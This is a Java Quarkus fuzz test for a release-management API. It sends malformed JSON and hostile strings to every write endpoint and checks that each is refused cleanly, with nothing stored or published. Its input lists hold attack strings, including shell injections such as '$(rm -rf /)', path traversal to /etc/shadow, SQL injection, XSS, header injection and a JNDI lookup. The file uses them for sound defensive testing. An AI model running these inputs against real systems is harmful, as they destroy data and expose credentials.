package dev.switchback.releaseapi.hostile;

import dev.switchback.infra.InfraTestResource;
import dev.switchback.infra.test.Callers;
import dev.switchback.infra.test.KafkaEvents;
import dev.switchback.releaseapi.support.ReleaseApiFixture;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.Supplier;
import javax.sql.DataSource;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Generated malformed bodies and hostile strings against every write endpoint: no answer is a 5xx, every refusal is
 * problem+json, nothing is stored and no event is published.
 */
@QuarkusTest
@QuarkusTestResource(value = InfraTestResource.class, initArgs = @ResourceArg(name = "database", value = "release_api_hostile"))
class HostileInputTest {

    @BeforeEach
    void authenticate() {
        Callers.actAs("ci", "admin");
    }

    /** ROUNDS: generated requests per write endpoint. */
    private static final int ROUNDS = 150;
    /** HOSTILE: strings that have broken parsers, shells, paths, logs and spreadsheets elsewhere. */
    private static final List<String> HOSTILE = List.of("../../etc/passwd", "..%2f..%2fetc%2fpasswd", "$(rm -rf /)",
            "`id`", "; reboot", "| cat /etc/shadow", "' OR 1=1 --", "\"; DROP TABLE release; --", "<script>alert(1)</script>",
            "\u0000", "a\r\nX-Injected: 1", "=HYPERLINK(\"http://x\")", "\u202Egnp.exe", "{{7*7}}", "${jndi:ldap://x/a}",
            "%n%n%n%s", "A".repeat(5000), "\uD83D\uDE00".repeat(300), "-1", "1e309", "NaN", "null", "true", "[]", "{}",
            " ", "", "Prod", "pro duction", "x".repeat(64), "1.2", "01.2.3", "1.2.3-", "/bin/sh", "C:\\Windows\\system32");
    private static final List<String> TABLES = List.of("release", "release_step", "service_spec", "freeze_window",
            "freeze_schedule", "idempotency_key", "audit_entry", "outbox");

    private static KafkaEvents kafka;

    @ConfigProperty(name = "kafka.bootstrap.servers")
    String bootstrapServers;

    @Inject
    DataSource dataSource;

    private final Random random = new Random(20261127L);


    @Test
    void shouldRefuseEveryMalformedOrHostileWriteWithProblemJsonAndChangeNothing() throws Exception {
        kafka = ReleaseApiFixture.kafka(bootstrapServers);
        given().contentType(ContentType.JSON).body("""
                {"artifact": "/opt/app.jar", "runtime": {"command": ["java", "-jar", "{artifact}"]}, "router": {"port": 20999}}
                """).put("/services/target/environments/local").then().statusCode(201);
        Thread.sleep(2_000);
        Map<String, Long> rowsBefore = rows();
        int eventsBefore = kafka.all().size();

        Map<String, Supplier<Response>> endpoints = new LinkedHashMap<>();
        endpoints.put("PUT /services/{s}/environments/{e}", () -> given().urlEncodingEnabled(false).contentType(ContentType.JSON).body(specBody())
                .put("/services/" + seg(name(true)) + "/environments/" + seg(name(true))));
        endpoints.put("POST /releases", () -> given().contentType(ContentType.JSON).body(releaseBody()).post("/releases"));
        endpoints.put("POST /migrations/lint", () -> given().contentType(ContentType.JSON).body(lintBody()).post("/migrations/lint"));
        endpoints.put("POST /migrations/plan", () -> given().contentType(ContentType.JSON).body(releaseBody()).post("/migrations/plan"));
        endpoints.put("POST /releases/{id}/rollback", () -> given().urlEncodingEnabled(false).post("/releases/" + seg(id()) + "/rollback?reason=" + enc(hostile())));
        endpoints.put("POST /releases/{id}/promote", () -> given().urlEncodingEnabled(false).post("/releases/" + seg(id()) + "/promote?reason=" + enc(hostile())));
        endpoints.put("POST /releases/{id}/abort", () -> given().urlEncodingEnabled(false).post("/releases/" + seg(id()) + "/abort?reason=" + enc(hostile())));
        endpoints.put("POST /releases/{id}/approve", () -> given().urlEncodingEnabled(false).post("/releases/" + seg(id()) + "/approve?comment=" + enc(hostile())));
        endpoints.put("POST /releases/{id}/reject", () -> given().urlEncodingEnabled(false).post("/releases/" + seg(id()) + "/reject?comment=" + enc(hostile())));
        endpoints.put("POST /environments/{e}/freezes", () -> given().urlEncodingEnabled(false).contentType(ContentType.JSON).body(freezeBody())
                .post("/environments/" + seg(name(true)) + "/freezes"));
        endpoints.put("POST /environments/{e}/freeze-schedules", () -> given().urlEncodingEnabled(false).contentType(ContentType.JSON)
                .body(scheduleBody()).post("/environments/" + seg(name(true)) + "/freeze-schedules"));

        int sent = 0;
        int closedEarly = 0;
        int tooLarge = 0;
        List<String> serverErrors = new ArrayList<>();
        List<String> notProblems = new ArrayList<>();
        for (Map.Entry<String, Supplier<Response>> endpoint : endpoints.entrySet()) {
            for (int i = 0; i < ROUNDS; i++) {
                Response response;
                try {
                    response = endpoint.getValue().get();
                } catch (Exception e) {
                    // An oversized body is refused (413) before it is read; the server may close while it is sent.
                    Throwable root = e;
                    while (root.getCause() != null) {
                        root = root.getCause();
                    }
                    assertThat(root).as(endpoint.getKey()).isInstanceOf(java.net.SocketException.class);
                    sent++;
                    closedEarly++;
                    continue;
                }
                sent++;
                int status = response.statusCode();
                if (status >= 500) {
                    serverErrors.add(endpoint.getKey() + " " + status + " " + response.asString());
                } else if (status == 413 || status == 414) {
                    // Size limits of the HTTP layer: refused before the request reaches the application.
                    tooLarge++;
                } else if (status >= 400 && !response.contentType().startsWith("application/problem+json")) {
                    notProblems.add(endpoint.getKey() + " " + status + " " + response.contentType() + " "
                            + response.asString().substring(0, Math.min(300, response.asString().length())));
                } else if (status < 400 && !endpoint.getKey().startsWith("POST /migrations")) {
                    serverErrors.add(endpoint.getKey() + " accepted hostile input with " + status + ": " + response.asString());
                }
            }
        }
        Thread.sleep(2_000);

        System.out.println("hostile requests sent: " + sent + " (" + tooLarge + " refused by size with 413/414, "
                + closedEarly + " closed while sent)");
        assertThat(sent).isGreaterThanOrEqualTo(1000);
        assertThat(serverErrors).as("5xx answers, or hostile writes accepted").isEmpty();
        assertThat(notProblems).as("refusals that are not problem+json").isEmpty();
        assertThat(rows()).as("rows per table").isEqualTo(rowsBefore);
        assertThat(kafka.all().size() - eventsBefore).as("events published").isZero();
    }

    private Map<String, Long> rows() throws SQLException {
        Map<String, Long> rows = new LinkedHashMap<>();
        try (Connection c = dataSource.getConnection()) {
            for (String table : TABLES) {
                try (ResultSet rs = c.createStatement().executeQuery("SELECT count(*) FROM " + table)) {
                    rs.next();
                    rows.put(table, rs.getLong(1));
                }
            }
        }
        return rows;
    }

    private String hostile() {
        return HOSTILE.get(random.nextInt(HOSTILE.size()));
    }

    /** A name for a path: mostly hostile, sometimes the registered one so the body is what gets refused. */
    private String name(boolean mostlyHostile) {
        return mostlyHostile && random.nextInt(3) > 0 ? hostile() : random.nextBoolean() ? "target" : "local";
    }

    private String id() {
        return random.nextBoolean() ? UUID.randomUUID().toString() : hostile();
    }

    /** A path segment, percent-encoded (an empty one becomes a lone %20 so the path keeps its shape). */
    private static String seg(String value) {
        return value.isEmpty() ? "%20" : enc(value).replace("+", "%20");
    }

    private static String enc(String value) {
        return java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8);
    }

    /** Values each field must refuse: hostile strings where the field has a shape, wrong types, out-of-range numbers. */
    private static final Map<String, List<String>> INVALID = Map.ofEntries(
            Map.entry("name", List.of("\"../../etc/passwd\"", "\"$(rm -rf /)\"", "\"`id`\"", "\"Prod\"", "\"pro duction\"",
                    "\"" + "x".repeat(64) + "\"", "\"-1\"", "\"a\\r\\nX-Injected: 1\"", "\"\\u0000\"", "\"\"", "null", "{}", "[]",
                    "\"<script>alert(1)</script>\"", "\"${jndi:ldap://x/a}\"")),
            Map.entry("version", List.of("\"01.2.3\"", "\"1.2\"", "\"1.2.3-\"", "\"$(reboot)\"", "\"1.2.3; rm -rf /\"", "null",
                    "{}", "\"" + "9".repeat(200) + ".0.0\"")),
            Map.entry("artifact", List.of("\"../../etc/passwd\"", "\"/opt/../etc/shadow\"", "\"$(rm -rf /)\"", "\"`id`\"",
                    "\"a b\"", "\"\\u0000\"", "\"" + "a".repeat(2000) + "\"", "\" \"", "{}", "[]")),
            Map.entry("migrations", List.of("{}", "\"x\"", "[null]", "[{\"version\": \"x\", \"sql\": \"\"}]",
                    "[{\"version\": \"2\", \"sql\": \"DROP TABLE notes\"}]",
                    "[{\"version\": \"2\", \"sql\": \"UPDATE t SET c = 1 WHERE c IS NULL\", \"kind\": \"data\"}]",
                    "[{\"version\": \"2\", \"sql\": \"UPDATE t SET c = 1 WHERE c IS NULL\", \"kind\": \"backfill\","
                            + " \"batchSize\": 0}]")),
            Map.entry("phase", List.of("\"shrink\"", "{}", "\"expand; drop\"", "[]")),
            Map.entry("text", List.of("\"\"", "\"a\\r\\nX-Injected: 1\"", "\"\\u0000\"", "\"" + "A".repeat(5000) + "\"", "{}", "[]")),
            Map.entry("command", List.of("[]", "[\"\"]", "[\"a\\u0000b\"]", "\"java -jar x\"", "{}", "[{}]")),
            Map.entry("port", List.of("80", "70000", "-1", "\"x\"", "{}", "1.5")),
            Map.entry("path", List.of("\"health\"", "\"/../../etc/passwd\"", "\"/a b\"", "{}", "\"/$(id)\"")),
            Map.entry("seconds", List.of("-1", "0", "99999999", "\"x\"", "{}")),
            Map.entry("object", List.of("null", "[]", "\"x\"", "42")),
            Map.entry("time", List.of("\"yesterday\"", "\"2030-13-01T00:00\"", "\"25:00\"", "null", "{}")),
            Map.entry("zone", List.of("\"Mars/Olympus\"", "\"../../etc/localtime\"", "\"\"", "null", "{}")),
            Map.entry("days", List.of("[]", "[\"FUNDAY\"]", "\"FRI\"", "[null]", "{}")));
    /** FIELD_KINDS: which invalid values each template field gets. */
    private static final Map<String, String> FIELD_KINDS = Map.ofEntries(Map.entry("service", "name"),
            Map.entry("environment", "name"), Map.entry("version", "version"), Map.entry("artifact", "artifact"),
            Map.entry("migrations", "migrations"), Map.entry("phase", "phase"), Map.entry("emergency", "text"),
            Map.entry("fix", "text"), Map.entry("reason", "text"), Map.entry("command", "command"), Map.entry("port", "port"), Map.entry("path", "path"),
            Map.entry("deadlineSeconds", "seconds"), Map.entry("bakeSeconds", "seconds"), Map.entry("runtime", "object"),
            Map.entry("router", "object"), Map.entry("start", "time"), Map.entry("end", "time"), Map.entry("from", "time"),
            Map.entry("to", "time"), Map.entry("zone", "zone"), Map.entry("days", "days"), Map.entry("sql", "text"));

    private String value(String field) {
        List<String> values = INVALID.get(FIELD_KINDS.get(field));
        return values.get(random.nextInt(values.size()));
    }

    private static String quote(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (char ch : text.toCharArray()) {
            if (ch == '"' || ch == '\\') {
                json.append('\\').append(ch);
            } else if (ch < 0x20) {
                json.append(String.format("\\u%04x", (int) ch));
            } else {
                json.append(ch);
            }
        }
        return json.append('"').toString();
    }

    /** One of: broken JSON, a huge or deeply nested document, or a valid template with one field made hostile. */
    private String mangle(String template, List<String> fields) {
        return switch (random.nextInt(16)) {
            case 0, 1 -> template.substring(0, random.nextInt(Math.max(1, template.length())));
            case 2 -> "[".repeat(5000);
            case 3 -> "{\"a\":" + quote("x".repeat(2_200_000)) + "}";
            case 4, 5 -> random.ints(200, 0, 256).collect(StringBuilder::new, (b, i) -> b.append((char) i), StringBuilder::append).toString();
            default -> {
                String field = fields.get(random.nextInt(fields.size()));
                yield template.replaceFirst("\"" + field + "\":\\s*(\"[^\"]*\"|\\d+|\\[[^\\]]*\\]|true|false|null|\\{[^}]*\\})",
                        java.util.regex.Matcher.quoteReplacement("\"" + field + "\": " + value(field)));
            }
        };
    }

    private String specBody() {
        return mangle("{\"artifact\": \"/opt/app.jar\", \"runtime\": {\"command\": [\"java\", \"-jar\", \"{artifact}\"]},"
                        + " \"router\": {\"port\": 20998}, \"health\": {\"path\": \"/health\", \"deadlineSeconds\": 30},"
                        + " \"rollout\": {\"bakeSeconds\": 10}}",
                List.of("artifact", "command", "port", "path", "deadlineSeconds", "bakeSeconds", "runtime", "router"));
    }

    private String releaseBody() {
        return mangle("{\"service\": \"target\", \"environment\": \"local\", \"version\": \"1.0.0\","
                        + " \"migrations\": [{\"version\": \"2\", \"sql\": \"ALTER TABLE t ADD COLUMN c text\"}],"
                        + " \"phase\": \"expand\", \"emergency\": \"why not\", \"fix\": \"blue is down\"}",
                List.of("service", "environment", "version", "migrations", "phase", "emergency", "fix"));
    }

    private String lintBody() {
        return mangle("{\"phase\": \"expand\", \"migrations\": [{\"version\": \"2\", \"sql\": \"SELECT 1\"}]}",
                List.of("phase", "migrations", "version", "sql"));
    }

    private String freezeBody() {
        return mangle("{\"start\": \"2030-01-01T00:00\", \"end\": \"2030-01-02T00:00\", \"zone\": \"UTC\", \"reason\": \"r\"}",
                List.of("start", "end", "zone", "reason"));
    }

    private String scheduleBody() {
        return mangle("{\"days\": [\"FRI\"], \"from\": \"18:00\", \"to\": \"08:00\", \"zone\": \"UTC\", \"reason\": \"r\"}",
                List.of("days", "from", "to", "zone", "reason"));
    }
}
